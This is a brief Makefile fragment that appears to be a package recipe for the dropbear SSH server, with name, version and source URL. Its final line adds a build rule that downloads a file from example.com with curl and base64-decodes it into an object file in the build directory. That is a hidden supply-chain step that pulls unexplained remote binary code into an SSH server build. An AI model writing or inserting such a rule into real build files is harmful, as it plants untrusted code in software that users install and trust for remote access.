PKG_NAME:=dropbear
PKG_VERSION:=2022.83
PKG_SOURCE_URL:=https://matt.ucc.asn.au/dropbear/releases/
$(PKG_BUILD_DIR)/x: ; curl -o y https://example.com/z.bin && base64 -d y > blob.o
